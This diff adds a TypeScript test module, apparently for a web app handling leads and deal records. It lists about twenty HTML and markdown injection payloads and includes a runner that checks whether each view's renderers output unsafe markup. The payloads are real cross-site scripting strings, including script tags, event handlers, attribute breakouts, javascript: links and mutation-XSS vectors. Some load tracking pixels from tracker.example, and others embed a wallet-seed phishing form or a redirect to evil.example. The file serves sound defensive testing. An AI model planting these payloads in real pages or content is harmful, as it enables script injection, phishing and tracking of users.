@@ -0,0 +1,78 @@
+/**
+ * @license
+ * SPDX-License-Identifier: Apache-2.0
+ */
+import { findUnsafeMarkup } from './safeHtml';
+
+/**
+ * Injection payloads that model output, imported leads or edited records
+ * could carry, and a runner that feeds each one through every view's
+ * renderers and inspects the resulting markup. Each renderer is registered
+ * under "<view>: <what it renders>", so a view without any renderer shows
+ * up as uncovered.
+ */
+
+export interface InjectionPayload {
+    id: string;
+    payload: string;
+    /** What the payload tries to do. */
+    note: string;
+}
+
+export const INJECTION_PAYLOADS: InjectionPayload[] = [
+    { id: 'script-tag', payload: '<script>alert(document.domain)</script>', note: 'Inline script element.' },
+    { id: 'img-onerror', payload: '<img src=x onerror=alert(1)>', note: 'Event handler on a broken image.' },
+    { id: 'svg-onload', payload: '<svg/onload=alert(1)>', note: 'SVG with an onload handler.' },
+    { id: 'details-ontoggle', payload: '**Deal** summary\n\n<details open ontoggle=alert(1)><summary>x</summary></details>', note: 'Handler inside a markdown HTML block.' },
+    { id: 'double-quote-breakout', payload: '" onmouseover="alert(1)" x="', note: 'Breaks out of a double-quoted attribute.' },
+    { id: 'single-quote-breakout', payload: "' autofocus onfocus='alert(1)' x='", note: 'Breaks out of a single-quoted attribute.' },
+    { id: 'tag-breakout', payload: '"></option></select></textarea><img src=x onerror=alert(1)>', note: 'Closes the surrounding element first.' },
+    { id: 'markdown-js-link', payload: '[Read the prospectus](javascript:alert(1))', note: 'Script URL in a markdown link.' },
+    { id: 'html-js-link', payload: '<a href="javascript:alert(1)">Term sheet</a>', note: 'Script URL in an HTML link.' },
+    { id: 'obfuscated-js-link', payload: '<a href="jav&#x09;ascript:alert(1)">open</a>', note: 'Script URL hidden behind an entity.' },
+    { id: 'svg-xlink-js-link', payload: '<svg><a xlink:href=" java&#x0A;script:alert(1)"><text y="20">chart</text></a></svg>', note: 'Script URL in an SVG link.' },
+    { id: 'data-html-link', payload: '[audit](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)', note: 'HTML document in a data URL.' },
+    { id: 'markdown-remote-image', payload: '![chart](https://tracker.example/pixel.gif?lead=1)', note: 'Tracking pixel in markdown.' },
+    { id: 'html-remote-image', payload: '<img src="https://tracker.example/pixel.gif">', note: 'Tracking pixel in HTML.' },
+    { id: 'css-exfiltration', payload: '<div style="background:url(https://tracker.example/x)">yield</div>', note: 'Remote load through inline CSS.' },
+    { id: 'iframe', payload: '<iframe src="https://evil.example"></iframe>', note: 'Embedded remote page.' },
+    { id: 'form-phish', payload: '<form action="https://evil.example"><input name="seed"><button>Verify wallet</button></form>', note: 'Credential-harvesting form.' },
+    { id: 'meta-refresh', payload: '<meta http-equiv="refresh" content="0;url=https://evil.example">', note: 'Redirects the page.' },
+    { id: 'noscript-mxss', payload: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', note: 'Mutation XSS through noscript parsing.' },
+    { id: 'math-mxss', payload: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', note: 'Mutation XSS through MathML namespace confusion.' },
+    { id: 'code-fence-breakout', payload: '```solidity AssetToken.sol\n</code></pre><img src=x onerror=alert(1)>\n```', note: 'Closes a code block from inside it.' }
+];
+
+export type RenderSurface = (payload: string) => string | Promise<string>;
+
+export interface CorpusFailure {
+    surface: string;
+    payloadId: string;
+    problems: string[];
+}
+
+export interface CorpusResult {
+    checked: number;
+    failures: CorpusFailure[];
+    /** Views with no registered renderer. */
+    uncovered: string[];
+}
+
+export async function runInjectionCorpus(surfaces: Record<string, RenderSurface>, views: string[], payloads = INJECTION_PAYLOADS): Promise<CorpusResult> {
+    const failures: CorpusFailure[] = [];
+    let checked = 0;
+    for (const [surface, render] of Object.entries(surfaces)) {
+        for (const { id, payload } of payloads) {
+            checked++;
+            let problems: string[];
+            try {
+                problems = findUnsafeMarkup(await render(payload));
+            } catch (e: any) {
+                problems = [`renderer threw: ${e?.message || e}`];
+            }
+            if (problems.length) failures.push({ surface, payloadId: id, problems });
+        }
+    }
+    const uncovered = views.filter(view => !Object.keys(surfaces).some(key => key.startsWith(`${view}:`)));
+    return { checked, failures, uncovered };
+}